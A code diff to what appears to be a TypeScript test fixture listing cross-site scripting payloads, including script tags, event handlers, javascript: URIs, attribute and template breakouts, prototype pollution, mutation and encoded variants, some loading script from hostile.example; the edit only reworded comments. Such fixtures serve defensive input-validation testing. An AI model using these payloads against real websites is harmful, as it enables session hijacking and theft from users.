@@ -1,7 +1,6 @@
 /**
- * What somebody may type who wants to run something in another's browser: each would, were it taken for markup, for a
- * link, for script or for a template, call `alert`, set `__hostile`, or fetch from hostile.example. Each fits a field of
- * 80 characters, on one line.
+ * Texts for cross-site scripting: each would call `alert`, set `__hostile`, or fetch from hostile.example, if it were
+ * interpreted as markup, a link, a script or a template. Each fits a single-line field of 80 characters.
  */
 export const HOSTILE_TEXTS = [
   '<script>alert(1)</script>',
@@ -9,7 +8,7 @@ export const HOSTILE_TEXTS = [
   '<scr<script>ipt>alert(1)</scr</script>ipt>',
   '<script src=//hostile.example/x.js></script>',
   '</script><script>__hostile=1</script>',
-  // Handlers, which need nobody to do anything.
+  // Handlers that need no interaction.
   '<img src=x onerror=alert(1)>',
   '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
   '<svg/onload=alert(1)>',
@@ -20,7 +19,7 @@ export const HOSTILE_TEXTS = [
   '<body onload=alert(1)>',
   '<video><source onerror=alert(1)>',
   '<marquee onstart=alert(1)>',
-  // Pages within the page, and other pages.
+  // Frames and navigation.
   '<iframe srcdoc="<script>parent.__hostile=1</script>">',
   '<object data="data:text/html,<script>alert(1)</script>">',
   '<base href=//hostile.example/>',
@@ -30,7 +29,7 @@ export const HOSTILE_TEXTS = [
   'javascript:alert(1)//',
   'JaVa&Tab;ScRiPt:alert(1)',
   'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
-  // Out of an attribute, an element, a comment.
+  // Breaking out of an attribute, an element, a comment.
   '" onmouseover="alert(1)" x="',
   "' autofocus onfocus='alert(1)' x='",
   '` onerror=alert(1) `',
@@ -40,7 +39,7 @@ export const HOSTILE_TEXTS = [
   '</textarea><svg onload=alert(1)>',
   '--><svg onload=alert(1)><!--',
   ']]><svg onload=alert(1)>',
-  // Out of a string, into a template.
+  // Breaking out of a string, into a template.
   "'-alert(1)-'",
   '\\");alert(1)//',
   '"},"__proto__":{"hostile":1},"x":{"',
@@ -54,7 +53,7 @@ export const HOSTILE_TEXTS = [
   '<style>*{background:url(//hostile.example/x)}</style>',
   '<link rel=stylesheet href=//hostile.example/x.css>',
   '<p style="width:expression(alert(1))">',
-  // What becomes markup only when it is read a second time.
+  // Texts that become markup when they are parsed twice.
   '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   '<svg><style><img src=x onerror=alert(1)></style></svg>',
@@ -62,17 +61,17 @@ export const HOSTILE_TEXTS = [
   '&#60;img src=x onerror=alert(1)&#62;',
   '%3Cscript%3Ealert(1)%3C/script%3E',
   '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
-  // What another alphabet hides.
+  // Full-width and other look-alike characters.
   '＜script＞alert(1)＜/script＞',
 ];
 
-/** What another direction hides: every field refuses it, but older rows may hold it. */
+/** Reordered by bidirectional control characters: every field refuses it, but older rows may contain it. */
 export const REORDERED_TEXT = '<\u202escript>alert(1)</script\u202c>';
 
-/** What a text of several lines may hold beside those. */
+/** Further texts for multi-line fields. */
 export const HOSTILE_LINES = [...HOSTILE_TEXTS, '<img src=x\nonerror=alert(1)\n>', 'x\nalert(1)\n//'];
 
-/** As few fields of a length as hold all those texts, each of them whole. */
+/** Concatenates the texts into as few fields of a length as possible. */
 export function packed(longest: number, texts: readonly string[] = HOSTILE_TEXTS): string[] {
   const fields: string[] = [];
   for (const text of texts.toSorted((a, b) => b.length - a.length)) {
